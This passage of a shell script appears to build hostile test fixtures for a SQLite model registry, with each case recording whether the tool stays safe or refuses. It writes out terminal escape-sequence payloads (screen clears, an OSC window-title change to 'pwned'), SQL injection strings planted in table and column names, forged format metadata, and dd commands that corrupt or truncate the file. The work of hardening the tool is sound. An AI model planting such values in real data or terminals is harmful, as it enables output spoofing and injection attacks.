sql "UPDATE datasets SET name = 'flow' || $ESC || ']0;pwned' || char(7) || 'ers' WHERE name = 'flowers'"
rec esc-dataset-name terminal safe - iris-lr "an escape sequence in a dataset name"

begin esc-column-name
sql "UPDATE dataset_columns SET column_name = 'sepal' || $ESC || '[2J' WHERE dataset_id = 1 AND position = 0"
rec esc-column-name terminal safe - iris-lr "an escape sequence in a column name (dataset_columns only)"

begin esc-model-name
sql "UPDATE models SET name = 'iris' || $ESC || '[2J' || $ESC || ']0;pwned' || char(7) WHERE name = 'iris-tree'"
rec esc-model-name terminal safe - iris-lr "escape sequences in a model name"

begin esc-reference-id
sql "UPDATE prediction_records SET reference_id = 'r' || $ESC || '[2J' || $ESC || ']0;pwned' || char(7) WHERE call_id = 1 AND position = 0"
rec esc-reference-id terminal safe - iris-lr "escape sequences in a logged reference id"

begin esc-c1-controls
sql "UPDATE datasets SET description = 'csi' || char(155) || '2J nel' || char(133) || 'x' || char(13) || 'overwritten' WHERE name = 'iris'"
rec esc-c1-controls terminal safe - iris-lr "C1 controls (CSI, NEL) and a carriage return in a description"

begin esc-signature
set_artifact iris-lr "replace(a, 'sepal length (cm)', 'sepal' || char(27) || '[2J')"
sql "UPDATE models SET signature = replace(signature, 'sepal length (cm)', 'sepal' || char(27) || '[2J') WHERE name = 'iris-lr'"
rec esc-signature terminal safe - iris-lr "an escape sequence in a feature name of iris-lr's artifact (predict's errors name features), artifact_md5 updated"

begin esc-legacy-model
sql "INSERT INTO legacy_models (name, version, dataset_id, target, variables, estimator_class, estimator_type, legacy_id, legacy_dataset_id, legacy_hash, pickle_bytes, pickle_md5) VALUES ('py' || $ESC || '[2J', 1, 1, 'target', '{}', 'LogisticRegression' || $ESC || ']0;pwned' || char(7), 'classifier', 1, 1, 'h', 1000000000000, '00000000000000000000000000000000')"
rec esc-legacy-model terminal safe - iris-lr "a legacy (Python) model row with escape sequences and a 10^12-byte pickle claim"

begin nul-in-names
sql "UPDATE datasets SET name = 'flo' || char(0) || 'wers', description = 'a' || char(0) || 'b' WHERE name = 'flowers'; UPDATE models SET name = 'iris' || char(0) || '-tree' WHERE name = 'iris-tree'"
rec nul-in-names name safe - iris-lr "NUL characters inside a dataset name, a description and a model name"

begin huge-description
sql "UPDATE datasets SET description = (WITH RECURSIVE n(i, s) AS (SELECT 0, 'x' UNION ALL SELECT i + 1, s || s FROM n WHERE i < 20) SELECT s FROM n WHERE i = 20) WHERE name = 'iris'"
rec huge-description name safe - iris-lr "a 1 MiB dataset description"

begin name-rules-broken
sql "UPDATE datasets SET name = '42' WHERE name = 'flowers'; UPDATE models SET name = 'a@b' WHERE name = 'iris-tree'"
rec name-rules-broken name safe - iris-lr "names our rules refuse: all digits, and one with @"

# ---------------------------------------------------------------- SQL injection through names
begin data-table-injection
sql "UPDATE datasets SET data_table = 'data_1\" WHERE 0 UNION ALL SELECT 1, 2, 3, 4, ''HOSTILE'' || ''-MARK-injection'' FROM mlops_meta --' WHERE name = 'iris'"
rec data-table-injection injection refused data_table iris-lr "iris's data_table is SQL that closes the quoted identifier and reads mlops_meta"

begin data-table-ours
sql "UPDATE datasets SET data_table = 'models' WHERE name = 'small'"
rec data-table-ours injection refused data_table iris-lr "small's data_table pointing at the models table"

begin column-name-quote
sql "ALTER TABLE data_2 RENAME COLUMN x TO 'x\"\" FROM sqlite_schema --'; UPDATE dataset_columns SET column_name = 'x\" FROM sqlite_schema --' WHERE dataset_id = 2 AND position = 0"
rec column-name-quote injection refused "small" iris-lr "a column of small renamed (table and metadata) to a name with a double quote and SQL"

# ---------------------------------------------------------------- formats and damaged files
begin older-format
sql "DROP TABLE dataset_row_hashes; PRAGMA user_version = 3"
rec older-format format safe - iris-lr "a genuine format-3 file (no row hashes): read-only commands must not migrate it"

begin user-version-lowered
sql "PRAGMA user_version = 2"
rec user-version-lowered format safe - iris-lr "user_version lowered to 2 while the schema is format 4"

begin newer-format
sql "PRAGMA user_version = 99"
rec newer-format format refused "99" iris-lr "user_version raised to 99"

begin application-id
sql "PRAGMA application_id = 1"
rec application-id format refused "application_id|application id|not an mlops-lite|not a registry" iris-lr "application_id changed to 1"

begin meta-forged
sql "UPDATE mlops_meta SET value = 'something else' WHERE key = 'format'; UPDATE mlops_meta SET value = $ESC || '[2J' WHERE key = 'written_by'"
rec meta-forged format safe - iris-lr "mlops_meta's format and written_by rows forged (an escape in written_by)"

begin header-page-size
printf '\003\350' | dd of="$cur" bs=1 seek=16 conv=notrunc status=none
rec header-page-size corrupt refused "{file}" iris-lr "the header's page size set to 1000 (not a power of two)"

begin truncated
truncate -s "$(($(stat -c %s "$cur") / 2))" "$cur"
rec truncated corrupt refused "{file}" iris-lr "the file cut in half"

begin not-sqlite
head -c 8192 /dev/zero | tr '\0' 'H' >"$cur"
rec not-sqlite corrupt refused "{file}" iris-lr "8 KiB of text, not SQLite"

begin corrupt-page
page=$(sqlite3 "$cur" "SELECT rootpage FROM sqlite_schema WHERE name = 'data_1'")
psize=$(sqlite3 "$cur" "PRAGMA page_size")
head -c "$psize" /dev/zero | tr '\0' '\377' | dd of="$cur" bs="$psize" seek=$((page - 1)) conv=notrunc status=none
rec corrupt-page corrupt safe - iris-lr "iris's data table's root page overwritten with 0xFF bytes"

begin corrupt-schema-page
printf '\377\377\377\377\377\377\377\377' | dd of="$cur" bs=1 seek=100 conv=notrunc status=none
rec corrupt-schema-page corrupt safe - iris-lr "the first page's b-tree header (sqlite_schema) overwritten"

n=$(wc -l <"$out/manifest.tsv")
echo "$out: $n files (manifest.tsv)"
